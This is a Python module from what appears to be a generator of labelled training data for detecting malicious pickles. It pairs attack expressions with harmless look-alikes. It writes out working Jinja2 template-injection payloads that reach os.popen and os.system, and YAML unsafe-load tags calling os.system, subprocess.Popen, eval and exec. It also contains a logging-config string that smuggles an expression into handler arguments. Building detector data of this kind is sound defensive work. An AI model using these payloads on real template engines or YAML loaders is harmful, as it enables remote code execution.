"""What libraries can be made to do, and their harmless neighbours: rows of tables, from all over what is published.

Rows are as in `bland`, "attack | honest", with a file of `acts` for each kind: `evaluated` texts, `commanded`
processes, `loaded` modules, plug-ins and files of code, `written` files, `exfiltrated` secrets, `hooked` callbacks that
wait, `disturbed` processes, and harmless-looking callables `composed` into a call. `honest` has no attacks: it is what
honest pickles hold that could be mistaken for one. Nothing of it is ever run here.
"""

from __future__ import annotations

from functools import cache
from pathlib import Path
from typing import Any

from train.corpus.attacks.bland import Composition, rows_of
from train.corpus.attacks.bombs import HUGE
from train.corpus.attacks.strangers import dotted_target, evil_settings, plain_settings
from train.corpus.attacks.techniques import Aim
from train.corpus.draw import Draw
from train.corpus.gadgets import payloads
from train.corpus.gadgets.arguments import inner_pickle, module_name
from train.corpus.honest import values
from train.corpus.spelling.scripts import expression_of

ACTS = Path(__file__).with_name("acts")
KINDS = ("evaluated", "commanded", "loaded", "written", "exfiltrated", "hooked", "disturbed", "composed")
"""Tables with attacks, each a technique of this name."""


@cache
def rows(kind: str) -> tuple[Composition, ...]:
    """Return a table: one of `KINDS`, or `honest`."""
    return rows_of((ACTS / f"{kind}.txt").read_text(encoding="utf-8"))


def effect(kind: str, aim: Aim, rng: Draw) -> Any:
    """Return an attack of a table."""
    given = {
        "g": aim.ref, "xs": list(aim.arguments), "x": aim.arguments[0] if aim.arguments else payloads.word(rng),
        "settings": evil_settings(rng), "dotted": dotted_target(rng), "mod": module_name(rng),
        "pickled": inner_pickle(rng),
    }  # fmt: skip
    return expression_of(rng.template(rows(kind)).attack, texts(rng) | given, rng)


def neighbour(kind: str, rng: Draw) -> Any:
    """Return a harmless call in the neighbourhood of a table's attacks, with texts of the same kind."""
    cls, path = values.class_ref(rng), payloads.path(rng)
    given = {
        "g": values.function_ref(rng), "xs": [values.scalar(rng)], "x": values.key(rng),
        "settings": plain_settings(rng), "dotted": f"{cls.module}.{cls.name}", "mod": cls.module,
        "pickled": path.encode(),
    }  # fmt: skip
    return expression_of(rng.template(rows(kind)).honest, texts(rng) | given, rng)


def texts(rng: Draw) -> dict[str, Any]:
    """Return what attacks and neighbours are given alike: texts, numbers, honest callables."""
    cmd, code, expr = payloads.command(rng), payloads.code(rng), payloads.code(rng, expression=True)
    return {
        "cmd": cmd, "code": code, "expr": expr, "argv": payloads.argv(rng), "url": payloads.url(rng),
        "w": payloads.word(rng), "v": payloads.word(rng), "n": rng.randrange(1, 9), "few": rng.randrange(2, 300),
        "huge": rng.choice(HUGE), "file": payloads.path(rng), "port": payloads.port(rng),
        "secret": rng.choice(payloads.SECRETS), "host": payloads.address(rng), "raw": payloads.code(rng).encode(),
        "template": _template(cmd, rng), "tag": _tag(cmd, expr, rng), "f": values.function_ref(rng),
        "cls": values.class_ref(rng), "text": values.prose(rng), "folder": rng.choice(payloads.PLAIN_FOLDERS),
        "config": f"[loggers]\nkeys=root\n[handlers]\nkeys=x\n[handler_x]\nclass=StreamHandler\nargs=({expr},)\n",
        "nothing": frozenset(),
    }  # fmt: skip


def _template(cmd: str, rng: Draw) -> str:
    return rng.template(
        (
            f"{{{{ cycler.__init__.__globals__.os.popen({cmd!r}).read() }}}}",
            f"{{{{ lipsum.__globals__['os'].system({cmd!r}) }}}}",
            f"{{{{ ''.__class__.__mro__[1].__subclasses__()[{rng.randrange(400)}]({cmd!r}, shell=True) }}}}",
            f"{{% import os %}}{{{{ os.system({cmd!r}) }}}}",
            f"{{{{ self.__init__.__globals__.__builtins__.__import__('os').popen({cmd!r}) }}}}",
            f"{{% for x in ().__class__.__base__.__subclasses__() %}}{{{{ x({cmd!r}) }}}}{{% endfor %}}",
        )
    )


def _tag(cmd: str, expr: str, rng: Draw) -> str:
    return rng.template(
        (
            f"!!python/object/apply:os.system [{cmd!r}]",
            f"!!python/object/apply:subprocess.Popen\n- {payloads.argv(rng)!r}\n",
            f"!!python/object/new:type\nargs: [x, [], {{extend: !!python/name:exec}}]\nlistitems: [{expr!r}]\n",
            f"!!python/object/apply:eval [{expr!r}]",
            f"x: !!python/object/apply:builtins.exec [{expr!r}]",
            f"!!python/module:{payloads.word(rng)}",
        )
    )
